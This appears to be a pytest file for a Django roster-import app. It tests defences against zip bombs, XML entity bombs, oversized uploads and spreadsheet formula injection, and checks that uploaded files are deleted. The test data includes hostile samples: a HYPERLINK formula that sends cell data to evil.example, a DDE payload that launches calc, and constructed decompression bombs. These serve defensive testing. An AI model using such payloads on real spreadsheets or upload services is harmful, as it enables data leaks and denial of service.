"""Issue 17: uploads. Zip and XML bombs in .xlsx are refused before openpyxl works on them (finding 9), an
uploaded roster is deleted once its import has run and is stored under a random name (finding 8), a request
body over REQUEST_MAX_BYTES is refused with 413 before it is read (finding 12), and no exported cell is a
formula (finding 5)."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook, load_workbook

from gongzhi.core import roster_import
from gongzhi.core.errors import ActionError
from gongzhi.core.exports import export_roster
from gongzhi.core.models import ImportJob, Resident
from gongzhi.test import XLSX_SHEET, XML_ENTITY_BOMB, formula_cells

from .test_rosters import BUILDING_A, id_number, xlsx

pytestmark = pytest.mark.django_db




@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


def rewrite(content: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The same .xlsx with one part changed (compressed as Excel does)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info.filename, change(data) if info.filename == part else data)
    return out.getvalue()


def residents_xlsx(count: int = 3) -> bytes:
    rows = [[f"居民{i}", "女", "", "", id_number(100 + 2 * i, "19700101", male=False), BUILDING_A, "", ""]
            for i in range(count)]
    return xlsx("residents", rows)


def create_job(cast: Any, content: bytes) -> ImportJob:
    return roster_import.do_create_import_job(acting_user=cast.worker_a, kind="residents", scope_area=cast.community_a,
                                              upload=io.BytesIO(content), name="名册.xlsx", size=len(content))


# -- finding 9: zip bombs and XML bombs -------------------------------------------------------------------


def test_it_refuses_a_zip_bomb_before_openpyxl_opens_it(cast: Any, settings: Any) -> None:
    settings.XLSX_MAX_UNCOMPRESSED_BYTES = 2 * 1024 * 1024
    padding = b" " * (6 * 1024 * 1024)  # whitespace between elements: valid XML, 6 MB unpacked
    bomb = rewrite(residents_xlsx(), XLSX_SHEET, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding))
    assert len(bomb) < 100_000
    with pytest.raises(ActionError) as refused:
        create_job(cast, bomb)
    assert "解压后超过 2 MB" in refused.value.message and "拆分" in refused.value.message
    assert not ImportJob.objects.exists() and not Resident.objects.filter(name__startswith="居民").exists()


def test_it_refuses_a_sheet_that_declares_too_many_cells(cast: Any, settings: Any) -> None:
    settings.XLSX_MAX_CELLS = 1000
    declared = rewrite(residents_xlsx(), XLSX_SHEET,
                       lambda xml: xml.replace(b"</sheetPr>", b'</sheetPr><dimension ref="A1:H200000"/>'))
    with pytest.raises(ActionError) as refused:
        create_job(cast, declared)
    assert "单元格超过 1,000 个" in refused.value.message
    assert not ImportJob.objects.exists()


def test_it_counts_the_cells_of_a_sheet_that_declares_no_size(cast: Any, settings: Any) -> None:
    settings.XLSX_MAX_CELLS = 1000
    content = residents_xlsx(200)  # 201 rows × 8 columns, and openpyxl's write-only files declare no dimension
    assert b"<dimension" not in zipfile.ZipFile(io.BytesIO(content)).read(XLSX_SHEET)
    job = roster_import.run_import(create_job(cast, content))
    assert job.status == ImportJob.Status.FAILED and "单元格超过 1,000 个" in job.message
    assert not Resident.objects.filter(name__startswith="居民").exists()


def test_it_refuses_an_xml_entity_bomb(cast: Any) -> None:
    bomb = rewrite(residents_xlsx(), XLSX_SHEET, lambda xml: XML_ENTITY_BOMB + xml.replace("居民0".encode(), b"&c;"))
    with pytest.raises(ActionError) as refused:
        create_job(cast, bomb)
    assert "实体声明" in refused.value.message
    assert not ImportJob.objects.exists()


def test_defusedxml_refuses_an_entity_bomb_behind_a_long_comment(cast: Any) -> None:
    assert openpyxl.DEFUSEDXML is True  # openpyxl parses with defusedxml
    hidden = b"<!--" + b"x" * 10_000 + b"-->" + XML_ENTITY_BOMB  # past the first 8 KB the package check reads
    bomb = rewrite(residents_xlsx(), XLSX_SHEET, lambda xml: hidden + xml.replace("居民0".encode(), b"&c;"))
    job = roster_import.run_import(create_job(cast, bomb))
    assert job.status == ImportJob.Status.FAILED and "实体声明" in job.message, job.message
    assert not Resident.objects.filter(name__startswith="居民").exists()
    assert not Resident.objects.filter(name__startswith="aaaa").exists()


# -- finding 8: uploaded rosters are not kept ------------------------------------------------------------


@pytest.mark.parametrize("good", [True, False])
def test_it_deletes_the_uploaded_roster_once_the_import_has_run(cast: Any, media: Path, good: bool) -> None:
    content = residents_xlsx() if good else xlsx("residents", [["", "", "", "", "123", BUILDING_A, "", ""]])
    job = create_job(cast, content)
    assert re.fullmatch(r"imports/[0-9a-f]{32}\.xlsx", job.file.name), job.file.name
    assert (media / job.file.name).exists()
    job = roster_import.run_import(job)
    assert job.status == (ImportJob.Status.SUCCEEDED if good else ImportJob.Status.FAILED), job.errors
    job.refresh_from_db()
    assert job.file.name == ""
    assert not [p for p in media.rglob("*") if p.is_file()]


def test_it_deletes_the_upload_when_the_import_breaks(cast: Any, media: Path, monkeypatch: Any) -> None:
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(roster_import, "validate_job", broken)
    job = roster_import.run_import(create_job(cast, residents_xlsx()))
    assert job.status == ImportJob.Status.FAILED
    assert not [p for p in media.rglob("*") if p.is_file()]


def test_it_deletes_the_upload_of_an_import_that_never_finished(cast: Any, media: Path) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from gongzhi.core.registry import registry

    stale, fresh = create_job(cast, residents_xlsx()), create_job(cast, residents_xlsx())
    ImportJob.objects.filter(pk=stale.pk).update(created_at=timezone.now() - timedelta(hours=25))
    check = next(c for c in registry.scheduled_checks if c.name.endswith("discard_stale_imports"))
    check.fn()
    stale.refresh_from_db()
    fresh.refresh_from_db()
    assert stale.status == ImportJob.Status.FAILED and stale.file.name == "" and "重新上传" in stale.message
    assert fresh.status == ImportJob.Status.PENDING and (media / fresh.file.name).exists()
    assert [p.name for p in media.rglob("*.xlsx")] == [Path(fresh.file.name).name]


# -- finding 12: request size ------------------------------------------------------------------------------


def test_it_refuses_a_request_body_over_the_limit_with_413_in_chinese(cast: Any, client: Client,
                                                                      settings: Any, media: Path) -> None:
    settings.REQUEST_MAX_BYTES = 64 * 1024
    client.force_login(cast.worker_a)
    upload = SimpleUploadedFile("名册.xlsx", b"x" * (100 * 1024))
    response = client.post("/rosters/residents/import/", {"scope": cast.community_a.pk, "file": upload})
    assert response.status_code == 413
    assert "请求过大" in response.content.decode() and "最多可以提交 0 MB" not in response.content.decode()
    response = client.post("/api/rosters/residents/imports", {"file": SimpleUploadedFile("a.xlsx", b"x" * 100_000)})
    assert response.status_code == 413 and "请求过大" in response.json()["detail"]
    assert not ImportJob.objects.exists() and not list(media.rglob("*.xlsx"))
    small = client.post("/api/rosters/residents/imports", {"file": SimpleUploadedFile("a.xlsx", b"x" * 100)})
    assert small.status_code != 413


# -- finding 5: formula injection --------------------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("write_only", [True, False])
def test_it_writes_formula_like_text_as_text(write_only: bool) -> None:
    from gongzhi.lib.spreadsheets import FORMULA_STARTS, append_row

    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    for attack in ATTACKS:
        append_row(ws, [attack, 12, "普通文字"])
    out = io.BytesIO()
    wb.save(out)
    assert formula_cells(io.BytesIO(out.getvalue())) == []
    back = load_workbook(io.BytesIO(out.getvalue()))
    values = [row for row in back.worksheets[0].iter_rows(values_only=True) if row[0] is not None]
    assert [v[0] for v in values] == ATTACKS and values[0][1] == 12


def test_it_exports_a_roster_with_no_formula(cast: Any) -> None:
    for i, attack in enumerate(ATTACKS):
        Resident.objects.create(area=cast.building_a, name=attack[:30], phone=f"1380013{i:04d}",
                                address=attack[:100])
    export = export_roster(cast.worker_a, "residents", area=cast.community_a)
    content = export.file.read()
    assert formula_cells(io.BytesIO(content)) == []
    names = [row[0] for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)]
    assert ATTACKS[0][:30] in names


def test_the_admin_neither_offers_nor_takes_an_import_file(cast: Any, client: Client) -> None:
    job = create_job(cast, residents_xlsx())
    client.force_login(cast.superuser)
    page = client.get(f"/admin/core/importjob/{job.pk}/change/")
    assert page.status_code == 200 and job.file.name not in page.content.decode()
    assert client.get("/admin/core/importjob/add/").status_code == 403
